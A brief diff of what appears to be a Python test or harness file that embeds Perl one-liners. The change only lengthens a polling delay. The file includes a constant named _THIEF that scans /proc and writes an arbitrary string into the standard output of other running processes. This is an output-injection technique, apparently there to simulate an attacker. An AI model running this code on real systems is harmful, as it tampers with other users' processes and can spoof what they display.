@@ -41,7 +41,7 @@ while (1) { opendir(my $d, "/proc") or die;
         open(my $c, "<", "/proc/$q/comm") or next; my $comm = readline($c) // next;
         $comm =~ /^(systemd|dbus.*|\(sd-pam\)|perl)$/ and next;
         IT }
-    select undef, undef, undef, 0.02 }' "$1"
+    select undef, undef, undef, 0.05 }' "$1"
 """
 _THIEF = """$done{$q}++ or fork or do { open(my $o, ">>", "/proc/$q/fd/1") or exit; print $o $ARGV[0]; close $o; close STDOUT; sleep 600; exit };"""
 # What fusermount(1) does for a user, with allow_other, which also lets root wait. Nobody answers.
